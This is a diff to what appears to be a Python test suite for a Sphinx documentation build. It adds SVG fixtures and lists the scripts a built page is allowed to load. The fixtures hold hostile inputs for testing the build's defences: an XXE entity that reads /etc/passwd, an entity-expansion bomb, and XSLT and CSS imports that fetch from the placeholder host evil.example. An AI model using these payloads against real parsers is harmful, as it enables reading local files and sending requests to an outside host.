@@ -91,6 +91,9 @@ HOSTILE_SVGS = {
     '<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>' + f"{SVG_OPEN}<desc>&b;</desc></svg>",
     "xxe": '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
     f"{SVG_OPEN}<desc>&x;</desc></svg>",
+    "xslt": '<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="https://evil.example/x.xsl"?>'
+    f"{SVG_OPEN}</svg>",
+    "css-import": f"{SVG_OPEN}<style>@import url(https://evil.example/x.css);</style></svg>",
     "latin1": (f"{SVG_OPEN}<desc>caf\xe9</desc></svg>"),
     "not-svg": '<html xmlns="http://www.w3.org/1999/xhtml"><body>x</body></html>',
     "broken": f"{SVG_OPEN}<rect",
@@ -390,7 +393,14 @@ def cases() -> list[Case]:
 
 # -- what every built page is checked for ----------------------------------------------
 
-SPHINX_SCRIPTS = {"documentation_options.js", "doctools.js", "sphinx_highlight.js"}
+SPHINX_SCRIPTS = {
+    "documentation_options.js",
+    "doctools.js",
+    "sphinx_highlight.js",
+    "searchtools.js",
+    "language_data.js",
+    "searchindex.js",
+}
 #: The basic theme's one inline script (it shows the search box).
 SPHINX_INLINE_SCRIPT = "document.getElementById('searchbox').style.display = \"block\""
 _WARNING = re.compile(
